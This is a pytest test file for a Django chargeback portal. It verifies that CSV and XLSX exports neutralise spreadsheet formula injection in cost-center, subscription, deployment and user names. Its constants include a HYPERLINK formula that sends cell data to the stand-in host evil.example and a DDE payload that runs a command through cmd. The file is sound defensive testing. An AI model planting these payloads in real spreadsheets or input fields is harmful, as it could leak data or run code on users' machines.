"""Exports cannot run formulas: hostile names go out as text with a leading ', never as formulas.

Cost-center names, APIM subscription ids and deployment names are chosen by callers (a
deployment name is part of the URL path), and the export URL's filters are echoed into the XLSX
"About" sheet: every CSV and XLSX export is read back and checked cell by cell.
"""

import csv
import io
import random
import re
import zipfile
from datetime import timedelta
from decimal import Decimal, InvalidOperation

import pytest
from django.contrib.auth.models import Group, User
from openpyxl import load_workbook

from aoai_portal.exports import FORMULA_STARTS, export_cell
from aoai_portal.roles import FINANCE
from tests.support.chargeback_data import BEGIN, request_row, requests_store
from usage.chargeback.selectors.groups import EMPTY_PARAM
from usage.chargeback.services import chargeback_month_close
from usage.models import CostCenter, CostCenterAssignment

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1"
AT = "@SUM(1)"
TAB = "\tx"
MINUS = "-2"
CR = "\rcr"
HOSTILE = (HYPERLINK, DDE, PLUS, AT, TAB, MINUS, CR)


def test_export_cell_neutralises_formula_starts_and_leaves_numbers():
    for text in HOSTILE:
        assert export_cell(text) == "'" + text
    assert export_cell("FIN") == "FIN"
    assert export_cell("") == ""
    assert export_cell(-2) == -2
    assert export_cell(Decimal("-1.50")) == Decimal("-1.50")
    assert export_cell(None) is None


@pytest.fixture
def hostile_month(db):
    """October 2026 with hostile cost-center, subscription, deployment and model names; closed by
    a user with a hostile name, then a late request (an adjustment line)."""
    center = CostCenter.objects.create(code=HYPERLINK, name=AT)
    CostCenterAssignment.objects.create(kind="subscription", key=DDE, cost_center=center)
    rng = random.Random(7)
    hour = BEGIN + timedelta(days=3, hours=9)
    rows = [
        request_row(rng, hour, 1, apim_subscription_id=DDE, deployment=PLUS, model=MINUS, response_code=200),
        request_row(rng, hour, 2, apim_subscription_id=TAB, deployment=AT, model=CR, response_code=200),
        request_row(
            rng, hour, 3, apim_subscription_id=DDE, deployment=TAB, model="gpt-4o", response_code=200
        ),
    ]
    requests_store(rows)
    closer = User.objects.create_user(username="=1+1")
    closer.groups.add(Group.objects.get_or_create(name=FINANCE)[0])
    chargeback_month_close(month=BEGIN.date(), user=closer, warnings_confirmed=True)
    late = request_row(
        rng, hour, 4, apim_subscription_id=DDE, deployment=PLUS, model=MINUS, response_code=200
    )
    requests_store([late])
    return center


EXPORT_QUERIES = (
    {"month": "2026-10"},  # cost centers
    {"month": "2026-10", "cost_center": HYPERLINK},  # subscriptions of the hostile cost center
    {"month": "2026-10", "cost_center": EMPTY_PARAM},  # subscriptions nobody assigned
    {"month": "2026-10", "subscription": DDE},  # deployments and models; the filter is echoed
    {"month": "2026-10", "subscription": DDE, "deployment": PLUS, "model": MINUS},  # days
)


def _number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def _export(client, extension: str, query: dict) -> bytes:
    response = client.get(f"/chargeback/export.{extension}", query)
    assert response.status_code == 200, (extension, query, response.content[:300])
    return response.content


@pytest.mark.parametrize("query", EXPORT_QUERIES)
def test_csv_exports_write_hostile_names_as_neutral_text(client_for, finance_user, hostile_month, query):
    content = _export(client_for(finance_user), "csv", query).decode()
    rows = list(csv.reader(io.StringIO(content)))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    # Nothing a spreadsheet would run: a cell starting with a formula character is a number.
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            assert _number(cell), repr(cell)
    hostile_seen = {text for text in HOSTILE if "'" + text in cells or any("'" + text in c for c in cells)}
    if "deployment" not in query:  # the day level's rows are days
        assert hostile_seen, "the hostile names are in the export, neutralised"
    # Numbers stay numbers.
    for row in body:
        record = dict(zip(header, row, strict=True))
        assert _number(record["cost"]) and _number(record["cost_exact"]) and record["requests"].isdigit()
    if query.get("cost_center") != EMPTY_PARAM:
        assert any(row[1] == "adjustment" for row in body), "the late request is an adjustment line"


@pytest.mark.parametrize("query", EXPORT_QUERIES)
def test_xlsx_exports_hold_no_formula_and_keep_numbers(client_for, finance_user, hostile_month, query):
    content = _export(client_for(finance_user), "xlsx", query)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert not re.search(r"<f[ >/]", xml), name
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (sheet.title, cell.coordinate)
                    texts.append(cell.value)
    assert any(text.startswith("'") and text[1:] in HOSTILE for text in texts)
    sheet = workbook["Chargeback"]
    header, *body = list(sheet.values)
    for values in body:
        record = dict(zip(header, values, strict=True))
        assert isinstance(record["requests"], int)
        assert isinstance(record["total_tokens"], int)
        assert isinstance(record["cost"], int | float | Decimal)
    about = dict(workbook["About"].iter_rows(values_only=True))
    if "subscription" in query:
        assert about["Subscription"] == "'" + DDE
    assert about["Closed"].endswith("by =1+1")  # not at the start of the cell: harmless as it is
